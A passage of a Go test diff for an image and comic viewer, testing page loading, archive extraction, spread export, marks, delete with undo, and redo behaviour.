+	}
+	if step, ok := g.GetLoadingIndicator(); !ok || step != 0 {
+		t.Fatalf("GetLoadingIndicator() = %d, %v, want 0, true", step, ok)
+	}
+	if g.updateLoadingIndicator(start.Add(loadingIndicatorDelay + loadingSpinnerFrame/2)) {
+		t.Fatal("redraw requested within a spinner frame")
+	}
+	if !g.updateLoadingIndicator(start.Add(loadingIndicatorDelay+loadingSpinnerFrame)) || g.loadingStep != 1 {
+		t.Fatalf("spinner step = %d, want 1", g.loadingStep)
+	}
+	if !g.needsContinuousFrames() {
+		t.Fatal("frames must keep coming while a page loads")
+	}
+
+	g.displayContent.RightImage = testDisplayImage(4, 4)
+	if !g.updateLoadingIndicator(start.Add(time.Second)) {
+		t.Fatal("spinner not removed once the page loaded")
+	}
+	if _, ok := g.GetLoadingIndicator(); ok || !g.loadingSince.IsZero() {
+		t.Fatal("loading state not cleared")
+	}
+	if loadingIndicatorStep(3, false) != -1 {
+		t.Fatal("hidden spinner must not match any frame")
+	}
+}
+
+func TestPureNextPagePreviewUsesPreloadedPages(t *testing.T) {
+	manager := newDefaultImageManager(4)
+	manager.SetPaths([]ImagePath{{Path: "01.png"}, {Path: "02.png"}, {Path: "03.png"}})
+	next := testDisplayImage(6, 8)
+	manager.addToCache(manager.cacheKeyFor(ImagePath{Path: "02.png"}), next)
+	g := &Game{
+		imageManager:   manager,
+		displayContent: &DisplayContent{Metadata: DisplayMetadata{LeftPage: 1, TotalPages: 3, ActualImages: 1}},
+	}
+	if img, _ := g.GetNextPagePreview(); img != nil {
+		t.Fatal("preview shown with next_page_preview off")
+	}
+
+	g.config.NextPagePreview = true
+	g.config.RightToLeft = true
+	if img, left := g.GetNextPagePreview(); img != next || !left {
+		t.Fatalf("GetNextPagePreview() = %v, %v, want page 2 on the left", img, left)
+	}
+
+	// A spread of pages 2-3 ends the book
+	g.displayContent.Metadata = DisplayMetadata{LeftPage: 3, RightPage: 2, TotalPages: 3, ActualImages: 2}
+	if img, _ := g.GetNextPagePreview(); img != nil {
+		t.Fatal("preview shown after the last page")
+	}
+
+	// Page 3 is not decoded yet and must not be loaded for the preview
+	g.displayContent.Metadata = DisplayMetadata{LeftPage: 2, TotalPages: 3, ActualImages: 1}
+	if img, _ := g.GetNextPagePreview(); img != nil {
+		t.Fatal("preview shown for a page that is not loaded")
+	}
+	if len(manager.loadRequests) != 0 {
+		t.Fatal("the preview requested a load")
+	}
+}
+
+func TestPurePageAnomalyFlagsOddPages(t *testing.T) {
+	metrics := []navlogic.PageMetrics{
+		{Width: 1200, Height: 1800},
+		{Width: 1200, Height: 1800},
+		{Width: 2400, Height: 1800}, // Spread, not an anomaly
+		{Width: 1200, Height: 1800},
+		{Width: 300, Height: 1000}, // Readable side, far too small
+		{Width: 1200, Height: 1800},
+		{Width: 120, Height: 160},
+		{Width: 1200, Height: 1800},
+		{},
+	}
+	lookup := func(idx int) navlogic.PageMetrics { return metrics[idx] }
+	want := map[int]string{
+		4: "unusual size 300x1000",
+		6: "low resolution 120x160",
+	}
+	for idx := range metrics {
+		if got := pageAnomaly(lookup, len(metrics), idx); got != want[idx] {
+			t.Errorf("pageAnomaly(%d) = %q, want %q", idx, got, want[idx])
+		}
+	}
+
+	paths := make([]ImagePath, len(metrics))
+	for i := range paths {
+		paths[i] = ImagePath{Path: fmt.Sprintf("%02d.png", i+1)}
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths},
+		zoomState:    NewZoomState(),
+		spreadLayout: navlogic.PlanLayout(metrics, 1.2, nil),
+	}
+	g.jumpToNextAnomaly()
+	if g.idx != 4 || g.overlayMessage != "Page 5: unusual size 300x1000" {
+		t.Fatalf("idx = %d, message %q, want page 5", g.idx, g.overlayMessage)
+	}
+	if g.displayContent.Metadata.Anomaly != "unusual size 300x1000" {
+		t.Fatalf("Anomaly = %q", g.displayContent.Metadata.Anomaly)
+	}
+	g.jumpToNextAnomaly()
+	if g.idx != 6 {
+		t.Fatalf("idx = %d, want 6", g.idx)
+	}
+	g.jumpToNextAnomaly()
+	if g.idx != 6 || g.overlayMessage != "No unusual pages ahead" {
+		t.Fatalf("idx = %d, message %q after the last anomaly", g.idx, g.overlayMessage)
+	}
+}
+
+func TestPureLoadDiagnosticsRecordPageLoads(t *testing.T) {
+	prevDebugMode := debugMode.Load()
+	debugMode.Store(true)
+	t.Cleanup(func() { debugMode.Store(prevDebugMode) })
+
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, image.NewNRGBA(image.Rect(0, 0, 8, 6))); err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	file := filepath.Join(dir, "01.png")
+	if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	archive := filepath.Join(dir, "book.cbz")
+	writeTestZip(t, archive, map[string][]byte{"02.png": buf.Bytes()})
+
+	manager := newDefaultImageManager(4)
+	paths := []ImagePath{
+		{Path: file},
+		{Path: archive + ":02.png", ArchivePath: archive, EntryPath: "02.png"},
+	}
+	manager.SetPaths(paths)
+	manager.processLoadRequest(loadRequest{path: paths[0], cacheKey: manager.cacheKeyFor(paths[0])})
+	manager.processLoadRequest(loadRequest{path: paths[1], cacheKey: manager.cacheKeyFor(paths[1]), preload: true})
+
+	for i, source := range []string{"disk", "preload"} {
+		stats, ok := manager.diagnostics.get(paths[i].Path)
+		if !ok {
+			t.Fatalf("no diagnostics for %s", paths[i].Path)
+		}
+		if stats.Source != source || stats.EncodedBytes != int64(buf.Len()) || stats.DecodedBytes != 8*6*4 {
+			t.Fatalf("stats for %s = %+v", paths[i].Path, stats)
+		}
+		if stats.Decode() < 0 || stats.Upload > stats.Total {
+			t.Fatalf("timings for %s = %+v", paths[i].Path, stats)
+		}
+	}
+
+	g := &Game{
+		imageManager:   manager,
+		displayContent: &DisplayContent{Metadata: DisplayMetadata{LeftPage: 2, RightPage: 1, TotalPages: 2, ActualImages: 2}},
+	}
+	got := g.GetLoadDiagnostics()
+	if !strings.HasPrefix(got, "p2 preload, decode ") || !strings.Contains(got, "  |  p1 disk, ") || !strings.Contains(got, "1 KB → 1 KB") {
+		t.Fatalf("GetLoadDiagnostics() = %q", got)
+	}
+	if again := g.GetLoadDiagnostics(); again != got {
+		t.Fatalf("pages still on screen changed source: %q", again)
+	}
+	g.displayContent.Metadata = DisplayMetadata{LeftPage: 1, RightPage: 1, TotalPages: 2, ActualImages: 1}
+	if got := g.GetLoadDiagnostics(); !strings.HasPrefix(got, "p1 disk, ") || strings.Contains(got, "|") {
+		t.Fatalf("single page diagnostics = %q", got)
+	}
+	g.displayContent.Metadata = DisplayMetadata{LeftPage: 2, RightPage: 2, TotalPages: 2, ActualImages: 1}
+	if got := g.GetLoadDiagnostics(); !strings.HasPrefix(got, "p2 cache (preload), decode ") {
+		t.Fatalf("page shown again = %q", got)
+	}
+
+	// Entries with the same name in two archives load apart
+	other := filepath.Join(dir, "other.cbz")
+	same := ImagePath{Path: other + ":02.png", ArchivePath: other, EntryPath: "02.png"}
+	manager.diagnostics.begin(same, "preload")
+	manager.diagnostics.begin(paths[1], "disk")
+	manager.diagnostics.note(same, func(s *pageLoadStats) { s.EncodedBytes = 1 })
+	if manager.diagnostics.pending[paths[1]].EncodedBytes != 0 || manager.diagnostics.pending[same].Source != "preload" {
+		t.Fatal("loads of equally named entries share their stats")
+	}
+	debugMode.Store(false)
+	if got := g.GetLoadDiagnostics(); got != "" {
+		t.Fatalf("diagnostics shown outside debug mode: %q", got)
+	}
+	if got := formatLoadBytes(3 << 20); got != "3.0 MB" {
+		t.Fatalf("formatLoadBytes() = %q", got)
+	}
+}
+
+func TestPureParsePageRange(t *testing.T) {
+	tests := []struct {
+		in          string
+		first, last int
+		wantErr     bool
+	}{
+		{"", 0, 9, false},
+		{"4", 3, 3, false},
+		{"3-5", 2, 4, false},
+		{"8-", 7, 9, false},
+		{"-2", 0, 1, false},
+		{"0-3", 0, 0, true},
+		{"5-3", 0, 0, true},
+		{"9-11", 0, 0, true},
+		{"a-b", 0, 0, true},
+	}
+	for _, tt := range tests {
+		first, last, err := parsePageRange(tt.in, 10)
+		if (err != nil) != tt.wantErr || first != tt.first || last != tt.last {
+			t.Errorf("parsePageRange(%q) = %d, %d, %v", tt.in, first, last, err)
+		}
+	}
+
+	if pages, dir := splitPageExportInput("12-15 my spread"); pages != "12-15" || dir != "my spread" {
+		t.Errorf("splitPageExportInput = %q, %q", pages, dir)
+	}
+	if pages, dir := splitPageExportInput("2024 trip"); pages != "2024" || dir != "trip" {
+		t.Errorf("splitPageExportInput = %q, %q", pages, dir)
+	}
+	if pages, dir := splitPageExportInput("/tmp/book pages"); pages != "" || dir != "/tmp/book pages" {
+		t.Errorf("splitPageExportInput = %q, %q", pages, dir)
+	}
+}
+
+func TestPureExtractCopiesPagesInOrder(t *testing.T) {
+	tempDir := t.TempDir()
+	archivePath := filepath.Join(tempDir, "book.cbz")
+	entries := map[string][]byte{
+		"p1.jpg":     []byte("one"),
+		"p2.jpg":     []byte("two"),
+		"p10.jpg":    []byte("ten"),
+		"ch2/p1.png": []byte("chapter two"),
+	}
+	writeTestZip(t, archivePath, entries)
+	outDir := filepath.Join(tempDir, "out")
+
+	code, ok := runSubcommand([]string{"extract", "-sort", "natural", "-pages", "2-3", "-o", outDir, archivePath})
+	if !ok || code != 0 {
+		t.Fatalf("runSubcommand = %d, %v", code, ok)
+	}
+	files, err := os.ReadDir(outDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, f := range files {
+		names = append(names, f.Name())
+	}
+	if want := []string{"001_p2.jpg", "002_p10.jpg"}; !slices.Equal(names, want) {
+		t.Fatalf("extracted %v, want %v", names, want)
+	}
+	if data, _ := os.ReadFile(filepath.Join(outDir, "002_p10.jpg")); string(data) != "ten" {
+		t.Fatalf("002_p10.jpg = %q, want the entry unchanged", data)
+	}
+	if code, _ := runSubcommand([]string{"extract", "-pages", "4-9", "-o", outDir, archivePath}); code != 2 {
+		t.Fatalf("out of range pages exit code = %d, want 2", code)
+	}
+
+	paths := []ImagePath{
+		{Path: archivePath + ":p1.jpg", ArchivePath: archivePath, EntryPath: "p1.jpg"},
+		{Path: archivePath + ":ch2/p1.png", ArchivePath: archivePath, EntryPath: "ch2/p1.png"},
+		{Path: filepath.Join(tempDir, "loose.jpg")},
+	}
+	g := &Game{imageManager: &stubImageManager{paths: paths}, zoomState: NewZoomState()}
+	g.startPageExport()
+	if g.textPrompt != TextPromptExportPages || g.textPromptBuffer != filepath.Join(tempDir, "book pages") {
+		t.Fatalf("prompt = %v %q", g.textPrompt, g.textPromptBuffer)
+	}
+	g.processPageExport("shared")
+	res := <-g.pageExportResults
+	if res.Err != nil || res.Count != 2 || res.Failed != 0 || res.Dir != filepath.Join(tempDir, "shared") {
+		t.Fatalf("export result = %+v, want the two archive pages", res)
+	}
+	if data, _ := os.ReadFile(filepath.Join(tempDir, "shared", "002_p1.png")); string(data) != "chapter two" {
+		t.Fatalf("002_p1.png = %q", data)
+	}
+
+	// Exporting again keeps the files already there
+	if err := os.WriteFile(filepath.Join(tempDir, "shared", "001_p1.jpg"), []byte("edited"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	g.processPageExport("shared")
+	if res := <-g.pageExportResults; res.Err != nil || res.Count != 0 || res.Skipped != 2 {
+		t.Fatalf("second export result = %+v, want both pages skipped", res)
+	}
+	if data, _ := os.ReadFile(filepath.Join(tempDir, "shared", "001_p1.jpg")); string(data) != "edited" {
+		t.Fatalf("001_p1.jpg = %q, want the existing file kept", data)
+	}
+}
+
+func TestPureExportSpreadStitchesPagesInScreenOrder(t *testing.T) {
+	dir := t.TempDir()
+	writePage := func(name string, w, h int, c color.NRGBA) ImagePath {
+		img := image.NewNRGBA(image.Rect(0, 0, w, h))
+		draw.Draw(img, img.Bounds(), image.NewUniform(c), image.Point{}, draw.Src)
+		var buf bytes.Buffer
+		if err := png.Encode(&buf, img); err != nil {
+			t.Fatal(err)
+		}
+		p := filepath.Join(dir, "vol1", name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return ImagePath{Path: p}
+	}
+	red, blue, green := color.NRGBA{255, 0, 0, 255}, color.NRGBA{0, 0, 255, 255}, color.NRGBA{0, 255, 0, 255}
+	paths := []ImagePath{writePage("12.png", 4, 6, red), writePage("13.png", 5, 4, blue)}
+
+	g := &Game{
+		imageManager:   &stubImageManager{paths: paths},
+		zoomState:      NewZoomState(),
+		config:         Config{ScreenshotDir: filepath.Join(dir, "shots"), Theme: ThemeSettings{Background: "#00ff00"}},
+		displayContent: &DisplayContent{Metadata: DisplayMetadata{LeftPage: 1, TotalPages: 2, ActualImages: 1}},
+	}
+	g.exportSpread()
+	if g.overlayMessage != "Not showing a spread" || g.screenshotResults != nil {
+		t.Fatalf("single page exported: %q", g.overlayMessage)
+	}
+
+	// Right-to-left: page 13 is on the left of the screen
+	g.displayContent.Metadata = DisplayMetadata{LeftPage: 2, RightPage: 1, TotalPages: 2, ActualImages: 2}
+	g.exportSpread()
+	res := <-g.screenshotResults
+	if res.Err != nil || res.Path != filepath.Join(dir, "shots", "vol1_p001-002.png") {
+		t.Fatalf("result = %+v", res)
+	}
+	f, err := os.Open(res.Path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	out, err := png.Decode(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b := out.Bounds(); b.Dx() != 5+imageGap+4 || b.Dy() != 6 {
+		t.Fatalf("stitched size = %v", b)
+	}
+	checks := []struct {
+		x, y int
+		want color.NRGBA
+	}{
+		{2, 3, blue},  // Left page, centered vertically
+		{2, 0, green}, // Background above the shorter page
+		{5 + imageGap/2, 3, green},
+		{5 + imageGap + 1, 0, red},
+	}
+	for _, c := range checks {
+		if got := color.NRGBAModel.Convert(out.At(c.x, c.y)).(color.NRGBA); got != c.want {
+			t.Errorf("pixel (%d,%d) = %v, want %v", c.x, c.y, got, c.want)
+		}
+	}
+	g.screenshotResults <- res
+	if !g.applyScreenshotResults() || g.overlayMessage != "Spread saved: "+res.Path {
+		t.Fatalf("message = %q", g.overlayMessage)
+	}
+}
+
+func TestPurePastedImageBecomesTransientPage(t *testing.T) {
+	if cmds := clipboardImageCommands("linux", true); cmds[0][0] != "wl-paste" || len(cmds) != 2 {
+		t.Fatalf("wayland commands = %v", cmds)
+	}
+	if cmds := clipboardImageCommands("darwin", false); cmds[0][0] != "pngpaste" {
+		t.Fatalf("macOS commands = %v", cmds)
+	}
+
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
+		t.Fatal(err)
+	}
+	path, err := savePastedImage(buf.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	paths := []ImagePath{{Path: "01.png"}, {Path: "02.png"}, {Path: "03.png"}}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths},
+		zoomState:    NewZoomState(),
+		progress:     &ProgressStore{entries: map[string]*ProgressEntry{}},
+	}
+	g.calculateDisplayContent()
+	g.clipboardPasteResults = make(chan clipboardPasteResult, 1)
+	g.clipboardPasteResults <- clipboardPasteResult{Path: path}
+	if !g.applyClipboardPasteResults() {
+		t.Fatal("paste result not applied")
+	}
+	if g.idx != 1 || g.imageManager.GetPathsCount() != 4 || g.getCurrentImagePath() != path {
+		t.Fatalf("idx = %d, current %q, want the pasted page after page 1", g.idx, g.getCurrentImagePath())
+	}
+	if next, _ := g.imageManager.GetPath(2); next.Path != "02.png" {
+		t.Fatalf("page after the pasted one = %q", next.Path)
+	}
+	g.trackReadingProgress(time.Now())
+	if len(g.progress.entries) != 0 {
+		t.Fatalf("pasted page counted in the reading progress: %v", g.progress.entries)
+	}
+
+	// The page is no file of any volume: nothing that acts on files applies
+	g.toggleMark()
+	if len(g.marks) != 0 || g.overlayMessage != "Pasted pages cannot be marked" {
+		t.Fatalf("marks = %v, overlay %q", g.marks, g.overlayMessage)
+	}
+	if _, ok := g.currentRatingKey(); ok {
+		t.Error("pasted page has a ratings key")
+	}
+	g.config.HardDelete = true
+	g.deleteCurrentFile(time.Now())
+	if g.imageManager.GetPathsCount() != 4 || g.overlayMessage != "Pasted pages cannot be deleted" {
+		t.Fatalf("delete: %d pages, overlay %q", g.imageManager.GetPathsCount(), g.overlayMessage)
+	}
+	if _, err := g.renameCurrentFile("kept.png"); err == nil {
+		t.Error("pasted page renamed")
+	}
+	if _, ok := g.currentVolume(); ok {
+		t.Error("pasted page belongs to a volume")
+	}
+	g.pagePairingsKey = spreadLayoutKey{}
+	g.syncPagePairings()
+	if g.pagePairings[0] != navlogic.PairApart || g.pagePairings[1] != navlogic.PairApart {
+		t.Errorf("pairings = %v, want the pasted page and the one before it apart", g.pagePairings)
+	}
+
+	// A rescan collects files only; the pasted page is carried over
+	rescanned := keepPastedPages(g.currentPaths(), []ImagePath{{Path: "01.png"}, {Path: "02.png"}, {Path: "03.png"}, {Path: "04.png"}})
+	if len(rescanned) != 5 || rescanned[1].Path != path || !rescanned[1].Transient {
+		t.Fatalf("rescanned = %v", rescanned)
+	}
+
+	g.removePastedFiles()
+	if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("pasted file left behind: %v", err)
+	}
+}
+
+func TestPureQuicklookWindowPosition(t *testing.T) {
+	tests := []struct {
+		name   string
+		cx, cy int
+		wantX  int
+		wantY  int
+	}{
+		{"centered on cursor", 960, 540, 560, 240},
+		{"top-left corner", 10, 10, 0, 0},
+		{"bottom-right corner", 1910, 1070, 1120, 480},
+	}
+	for _, tt := range tests {
+		x, y := quicklookWindowPosition(tt.cx, tt.cy, 800, 600, 1920, 1080)
+		if x != tt.wantX || y != tt.wantY {
+			t.Errorf("%s: got (%d, %d), want (%d, %d)", tt.name, x, y, tt.wantX, tt.wantY)
+		}
+	}
+}
+
+func TestPureQuicklookTargetMonitor(t *testing.T) {
+	// A 150% monitor to the left of the primary one: virtual-desktop
+	// coordinates there are negative
+	x, y := virtualToMonitorPoint(image.Pt(-1500, 300), image.Pt(-2880, 0), 1.5)
+	if x != 920 || y != 200 {
+		t.Errorf("virtualToMonitorPoint = (%d, %d), want (920, 200)", x, y)
+	}
+
+	sizes := []image.Point{{1920, 1080}, {1920, 1080}, {2560, 1440}}
+	scales := []float64{1, 1.5, 1.5}
+	if i := pickQuicklookMonitor(sizes, scales, image.Pt(2880, 1620), 1); i != 1 {
+		t.Errorf("monitor at its enumeration index = %d, want 1", i)
+	}
+	if i := pickQuicklookMonitor(sizes, scales, image.Pt(3840, 2160), 0); i != 2 {
+		t.Errorf("monitor whose index disagrees = %d, want the one of that size (2)", i)
+	}
+	if i := pickQuicklookMonitor(sizes, scales, image.Pt(1024, 768), -1); i != -1 {
+		t.Errorf("unknown monitor = %d, want -1", i)
+	}
+}
+
+func TestPureQuicklookShouldClose(t *testing.T) {
+	if quicklookShouldClose(false, false, false) {
+		t.Error("closed before the window was ever focused")
+	}
+	if quicklookShouldClose(true, true, false) {
+		t.Error("closed while focused")
+	}
+	if !quicklookShouldClose(false, true, false) {
+		t.Error("stayed open after losing focus")
+	}
+	if !quicklookShouldClose(true, true, true) {
+		t.Error("stayed open on Escape")
+	}
+}
+
+func TestPureAcceptPrintsCurrentPathOnlyInPrintSelectedMode(t *testing.T) {
+	paths := []ImagePath{{Path: "/p/1.png"}, {Path: "/p/a.cbz:02.png", ArchivePath: "/p/a.cbz", EntryPath: "02.png"}}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		idx:          1,
+	}
+	globalActionExecutor.ExecuteAction("accept", g, g)
+	if g.exitRequested || g.selectedPath != "" {
+		t.Fatalf("accept outside --print-selected: exit = %v, selected %q", g.exitRequested, g.selectedPath)
+	}
+
+	g.printSelected = true
+	globalActionExecutor.ExecuteAction("accept", g, g)
+	if !g.exitRequested || g.selectedPath != "/p/a.cbz:02.png" {
+		t.Fatalf("exit = %v, selected %q", g.exitRequested, g.selectedPath)
+	}
+
+	var out bytes.Buffer
+	if code := printSelection(&out, g.selectedPath); code != 0 || out.String() != "/p/a.cbz:02.png\n" {
+		t.Fatalf("code %d, output %q", code, out.String())
+	}
+	out.Reset()
+	if code := printSelection(&out, ""); code != 1 || out.Len() != 0 {
+		t.Fatalf("canceled: code %d, output %q", code, out.String())
+	}
+}
+
+func TestPureMarksToggleAndWriteInCollectionOrder(t *testing.T) {
+	paths := []ImagePath{{Path: "/p/1.png"}, {Path: "/p/2.png"}, {Path: "/p/3.png"}}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+	}
+	globalActionExecutor.ExecuteAction("accept_marked", g, g)
+	if g.exitRequested || g.overlayMessage != "No marked images" {
+		t.Fatalf("accept without marks: exit = %v, overlay %q", g.exitRequested, g.overlayMessage)
+	}
+
+	for _, idx := range []int{2, 0, 1, 1} {
+		g.idx = idx
+		globalActionExecutor.ExecuteAction("toggle_mark", g, g)
+	}
+	if g.overlayMessage != "Unmarked (2 marked)" {
+		t.Fatalf("overlay %q", g.overlayMessage)
+	}
+	g.idx = 2
+	g.calculateDisplayContent()
+	if meta := g.displayContent.Metadata; !meta.Marked || meta.MarkCount != 2 {
+		t.Fatalf("marked = %v, count = %d", meta.Marked, meta.MarkCount)
+	}
+
+	globalActionExecutor.ExecuteAction("accept_marked", g, g)
+	if !g.exitRequested || !slices.Equal(g.acceptedMarks, []string{"/p/1.png", "/p/3.png"}) {
+		t.Fatalf("exit = %v, accepted %v", g.exitRequested, g.acceptedMarks)
+	}
+
+	var out bytes.Buffer
+	if code := writeMarkedPaths(&out, "-", g.acceptedMarks); code != 0 || out.String() != "/p/1.png\n/p/3.png\n" {
+		t.Fatalf("stdout: code %d, output %q", code, out.String())
+	}
+	dest := filepath.Join(t.TempDir(), "keep.txt")
+	if code := writeMarkedPaths(&out, dest, g.acceptedMarks); code != 0 {
+		t.Fatalf("file: code %d", code)
+	}
+	if data, err := os.ReadFile(dest); err != nil || string(data) != "/p/1.png\n/p/3.png\n" {
+		t.Fatalf("file contents %q, err %v", data, err)
+	}
+}
+
+func TestPureMarksAreNotLostOnQuit(t *testing.T) {
+	paths := []ImagePath{{Path: "/p/1.png"}, {Path: "/p/2.png"}}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4)}},
+		zoomState:    NewZoomState(),
+		marks:        map[string]bool{"/p/2.png": true},
+	}
+
+	// Without --marked-file the first quit only warns
+	globalActionExecutor.ExecuteAction("exit", g, g)
+	if g.exitRequested || !strings.Contains(g.overlayMessage, "1 marked images not written") {
+		t.Fatalf("first quit: exit = %v, overlay %q", g.exitRequested, g.overlayMessage)
+	}
+	globalActionExecutor.ExecuteAction("exit", g, g)
+	if !g.exitRequested {
+		t.Fatal("second quit should discard the marks")
+	}
+	var out bytes.Buffer
+	g.writeMarksOnExit(&out)
+	if out.Len() != 0 {
+		t.Fatalf("marks written without --marked-file: %q", out.String())
+	}
+
+	// With --marked-file every exit writes them
+	dest := filepath.Join(t.TempDir(), "keep.txt")
+	g.exitRequested, g.quitArmedAt, g.markedFile = false, time.Time{}, dest
+	globalActionExecutor.ExecuteAction("exit", g, g)
+	if !g.exitRequested {
+		t.Fatal("quit with --marked-file should not ask")
+	}
+	g.writeMarksOnExit(&out)
+	if data, err := os.ReadFile(dest); err != nil || string(data) != "/p/2.png\n" {
+		t.Fatalf("file contents %q, err %v", data, err)
+	}
+}
+
+func TestPureMarksFollowRenameAndDelete(t *testing.T) {
+	dir := t.TempDir()
+	var paths []ImagePath
+	for _, name := range []string{"1.png", "2.png"} {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, nil, 0644); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, ImagePath{Path: path})
+	}
+	m := newDefaultImageManager(len(paths))
+	m.SetPaths(paths)
+	g := &Game{
+		imageManager: m,
+		zoomState:    NewZoomState(),
+		config:       Config{HardDelete: true},
+	}
+	g.toggleMark()
+
+	g.processRename("keep.png")
+	renamed := filepath.Join(dir, "keep.png")
+	if !slices.Equal(g.markedPaths(), []string{renamed}) {
+		t.Fatalf("marks after rename %v", g.markedPaths())
+	}
+	g.undo()
+	if !slices.Equal(g.markedPaths(), []string{paths[0].Path}) {
+		t.Fatalf("marks after undoing the rename %v", g.markedPaths())
+	}
+
+	g.deleteCurrentFile(time.Now())
+	if len(g.markedPaths()) != 0 {
+		t.Fatalf("marks after delete %v", g.markedPaths())
+	}
+	g.undo()
+	if !slices.Equal(g.markedPaths(), []string{paths[0].Path}) {
+		t.Fatalf("marks after undoing the delete %v", g.markedPaths())
+	}
+}
+
+func TestPureDeleteHoldsFilesForUndoUntilExit(t *testing.T) {
+	dir := t.TempDir()
+	var paths []ImagePath
+	for _, name := range []string{"1.png", "2.png", "3.png"} {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(name), 0644); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, ImagePath{Path: path})
+	}
+	m := newDefaultImageManager(len(paths))
+	m.SetPaths(paths)
+	g := &Game{
+		imageManager: m,
+		zoomState:    NewZoomState(),
+		idx:          1,
+	}
+	now := time.Now()
+	g.deleteCurrentFile(now)
+	if g.overlayMessage != "Deleting is off (hard_delete)" {
+		t.Fatalf("overlay %q", g.overlayMessage)
+	}
+
+	var logs bytes.Buffer
+	prevWriter, prevDebugMode := log.Writer(), debugMode.Load()
+	log.SetOutput(&logs)
+	debugMode.Store(true)
+	t.Cleanup(func() {
+		log.SetOutput(prevWriter)
+		debugMode.Store(prevDebugMode)
+	})
+	g.config = Config{HardDelete: true, ConfirmDelete: true, EventCommands: map[string]string{eventFileDeleted: "echo {name}"}}
+	g.deleteCurrentFile(now)
+	if _, err := os.Stat(paths[1].Path); err != nil || g.imageManager.GetPathsCount() != 3 {
+		t.Fatalf("first press deleted: err %v, count %d", err, g.imageManager.GetPathsCount())
+	}
+	g.deleteCurrentFile(now.Add(time.Second))
+	if _, err := os.Stat(paths[1].Path); !errors.Is(err, os.ErrNotExist) || g.imageManager.GetPathsCount() != 2 {
+		t.Fatalf("second press kept the file: err %v, count %d", err, g.imageManager.GetPathsCount())
+	}
+	if p, _ := g.imageManager.GetPath(g.idx); p != paths[2] {
+		t.Fatalf("current page %v, want %v", p, paths[2])
+	}
+	if got := logs.String(); strings.Count(got, `event="file_deleted"`) != 1 || !strings.Contains(got, "2.png") {
+		t.Fatalf("file_deleted not run once for the deleted file: %q", got)
+	}
+
+	g.config.ConfirmDelete = false
+	g.deleteCurrentFile(now)
+	if g.imageManager.GetPathsCount() != 1 || len(g.undoStack) != 2 {
+		t.Fatalf("count %d, deleted %d", g.imageManager.GetPathsCount(), len(g.undoStack))
+	}
+
+	g.undo()
+	g.undo()
+	if !slices.Equal(g.currentPaths(), paths) || g.idx != 1 {
+		t.Fatalf("paths after undo %v, idx %d", g.currentPaths(), g.idx)
+	}
+	if data, err := os.ReadFile(paths[1].Path); err != nil || string(data) != "2.png" {
+		t.Fatalf("restored %q, err %v", data, err)
+	}
+
+	g.config.ConfirmDelete = false
+	g.deleteCurrentFile(now)
+	hold := g.deleteHoldDir
+	g.removeDeletedFiles()
+	if _, err := os.Stat(hold); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("holding folder left behind: %v", err)
+	}
+	if _, err := os.Stat(paths[1].Path); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("deleted file came back: %v", err)
+	}
+}
+
+func TestPureUndoRedoJumpsAndRenames(t *testing.T) {
+	dir := t.TempDir()
+	var paths []ImagePath
+	for i := range 5 {
+		path := filepath.Join(dir, fmt.Sprintf("%d.png", i+1))
+		if err := os.WriteFile(path, nil, 0644); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, ImagePath{Path: path})
+	}
+	m := newDefaultImageManager(len(paths))
+	m.SetPaths(paths)
+	g := &Game{
+		imageManager: m,
+		zoomState:    NewZoomState(),
+		idx:          1,
+	}
+	g.calculateDisplayContent()
+
+	globalActionExecutor.ExecuteAction("jump_last", g, g)
+	if g.idx != 4 {
+		t.Fatalf("jump_last: idx = %d", g.idx)
+	}
+	globalActionExecutor.ExecuteAction("undo", g, g)
+	if g.idx != 1 || g.overlayMessage != "Undone: jump to page 5" {
+		t.Fatalf("undo: idx = %d, overlay %q", g.idx, g.overlayMessage)
+	}
+	globalActionExecutor.ExecuteAction("redo", g, g)
+	if g.idx != 4 || len(g.redoStack) != 0 || len(g.undoStack) != 1 {
+		t.Fatalf("redo: idx = %d, undo %d, redo %d", g.idx, len(g.undoStack), len(g.redoStack))
+	}
+
+	g.processRename("last.png")
+	renamed := filepath.Join(dir, "last.png")
+	if _, err := os.Stat(renamed); err != nil {
+		t.Fatal(err)
+	}
+	g.undo()
+	if _, err := os.Stat(paths[4].Path); err != nil || g.currentPaths()[4] != paths[4] {
+		t.Fatalf("rename not undone: err %v, page %v", err, g.currentPaths()[4])
+	}
+	g.undo()
+	if g.idx != 1 {
+		t.Fatalf("second undo: idx = %d", g.idx)
+	}
+	g.redo()
+	g.redo()
+	if _, err := os.Stat(renamed); err != nil || g.idx != 4 {
+		t.Fatalf("redo rename: err %v, idx %d", err, g.idx)
+	}
+
+	g.undo()
+	g.jumpToPage(3)
+	if len(g.redoStack) != 0 {
